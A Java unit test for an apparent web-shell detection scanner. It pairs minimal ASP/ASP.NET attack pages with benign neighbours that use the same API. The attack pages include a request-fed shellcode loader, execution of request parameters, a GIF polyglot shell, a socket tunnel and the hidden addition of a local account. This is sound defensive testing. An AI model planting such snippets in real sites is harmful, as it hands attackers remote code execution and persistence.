package org.exhunt.hunt.sweep;

import static org.assertj.core.api.Assertions.assertThat;
import static org.exhunt.hunt.sweep.BuiltinRuleScanner.rulesMatching;

import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Each technique rule against a minimal page using the technique and that page's nearest benign
 * neighbour: the same API used the way an application uses it. The corpus holds few or no
 * samples of several of these techniques, so these pairs are what pins them down.
 */
class TechniqueRulesTest {

    private static final String CS_PAGE = "<%@ Page Language=\"C#\" %>\r\n";

    static Stream<Arguments> techniques() {
        return Stream.of(
                Arguments.of("exhunt_aspnet_native_code_from_page",
                        CS_PAGE + "<script runat=\"server\">[System.Runtime.InteropServices.DllImport(\"kernel32\")] "
                                + "static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);\r\n"
                                + "[System.Runtime.InteropServices.DllImport(\"kernel32\")] static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);\r\n"
                                + "void Page_Load(){ byte[] sc = Convert.FromBase64String(Request.Form[\"d\"]); IntPtr m = VirtualAlloc(IntPtr.Zero, (uint)sc.Length, 0x3000, 0x40); CreateThread(IntPtr.Zero, 0, m, IntPtr.Zero, 0, IntPtr.Zero); }</script>",
                        CS_PAGE + "<script runat=\"server\">[System.Runtime.InteropServices.DllImport(\"kernel32\")] "
                                + "static extern uint GetTickCount();\r\nvoid Page_Load(){ uptime.Text = GetTickCount().ToString(); }</script>"),
                Arguments.of("exhunt_aspnet_parses_request_as_markup",
                        CS_PAGE + "<% Controls.Add(ParseControl(Request.Form[\"m\"])); %>",
                        CS_PAGE + "<% Controls.Add(ParseControl(\"<b>\" + Server.HtmlEncode(title) + \"</b>\")); %>"),
                Arguments.of("exhunt_aspnet_deserializes_request_data",
                        CS_PAGE + "<% var f = new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter(); "
                                + "f.Deserialize(Request.InputStream); %>",
                        CS_PAGE + "<% var f = new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter(); "
                                + "using (var s = System.IO.File.OpenRead(MapPath(\"~/App_Data/cache.bin\"))) f.Deserialize(s); %>"),
                Arguments.of("exhunt_aspnet_powershell_runspace",
                        CS_PAGE + "<script runat=\"server\">void Run(string c){ var rs = RunspaceFactory.CreateRunspace(); rs.Open(); "
                                + "var p = rs.CreatePipeline(); p.Commands.AddScript(c); p.Invoke(); }</script>",
                        "using System.Management.Automation.Runspaces;\r\nclass Tool { void Run(string c){ var rs = RunspaceFactory.CreateRunspace(); "
                                + "rs.Open(); var p = rs.CreatePipeline(); p.Commands.AddScript(c); p.Invoke(); } }"),
                Arguments.of("exhunt_aspnet_compiles_request_source",
                        CS_PAGE + "<% var r = new Microsoft.CSharp.CSharpCodeProvider().CompileAssemblyFromSource("
                                + "new System.CodeDom.Compiler.CompilerParameters(), Request[\"src\"]); %>",
                        CS_PAGE + "<% var provider = new Microsoft.CSharp.CSharpCodeProvider(); lang.Text = provider.FileExtension; %>"),
                Arguments.of("exhunt_aspnet_wmi_process_create",
                        CS_PAGE + "<% new System.Management.ManagementClass(\"Win32_Process\").InvokeMethod(\"Create\", new object[] { Request[\"c\"] }); %>",
                        CS_PAGE + "<% foreach (var o in new System.Management.ManagementObjectSearcher(\"select Name from Win32_Process\").Get()) list.Items.Add(o[\"Name\"].ToString()); %>"),
                Arguments.of("exhunt_aspnet_socket_tunnel",
                        CS_PAGE + "<% Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); "
                                + "s.Connect(Request.QueryString[\"host\"], int.Parse(Request.QueryString[\"port\"])); Session[\"s\"] = s; "
                                + "byte[] b = Request.BinaryRead(Request.ContentLength); s.Send(b); %>",
                        CS_PAGE + "<% Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); "
                                + "s.Connect(\"127.0.0.1\", 25); status.Text = s.Connected ? \"SMTP up\" : \"SMTP down\"; s.Close(); %>"),
                Arguments.of("exhunt_asp_utf7_codepage",
                        "<%@ LANGUAGE=VBScript CODEPAGE=65000 %>\r\n<%+AGUAdgBhAGwAIAByAGUAcQB1AGUAcwB0ACgAIgB4ACIAKQ-%>",
                        "<%@ LANGUAGE=VBScript CODEPAGE=65001 %>\r\n<% Response.Write \"Hello\" %>"),
                Arguments.of("exhunt_asp_includes_non_script_file",
                        "<!--#include file=\"images/logo.jpg\"-->\r\n",
                        "<!--#include file=\"inc/header.asp\"-->\r\n"),
                Arguments.of("exhunt_chopper_asp_script_control",
                        "<% Set sc = Server.CreateObject(\"MSScriptControl.ScriptControl\") : sc.Language = \"VBScript\" : sc.AddCode Request(\"c\") %>",
                        "<% Set sc = Server.CreateObject(\"MSScriptControl.ScriptControl\") : sc.Language = \"VBScript\" : sc.AddCode \"Function F(x) : F = x * 2 : End Function\" %>"),
                Arguments.of("exhunt_obfuscated_binary_container_with_script",
                        "GIF89a\u0001\u0000\u0001\u0000<% execute request(\"p\") %>",
                        "GIF89a\u0001\u0000\u0001\u0000\u0080\u0000\u0000;"),
                Arguments.of("exhunt_asp_server_object_shell_by_clsid",
                        "<object runat=server id=ws scope=page classid=\"clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8\"></object>",
                        "<object id=player classid=\"clsid:6BF52A52-394A-11D3-B153-00C04F79FAA6\"></object>"),
                Arguments.of("exhunt_multi_tool_adds_local_account",
                        "<% Set s = CreateObject(\"WScript.Shell\") : s.Run \"net user support P@ss1 /add\", 0, True %>",
                        "<% Response.Write \"Ask the administrator to run 'net user' for you.\" %>"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("techniques")
    void techniqueIsFoundAndItsBenignNeighbourIsNot(String rule, String technique, String neighbour) {
        assertThat(rulesMatching(technique)).as("rules matching the technique").contains(rule);
        assertThat(rulesMatching(neighbour)).as("rules matching the benign neighbour").doesNotContain(rule);
    }
}
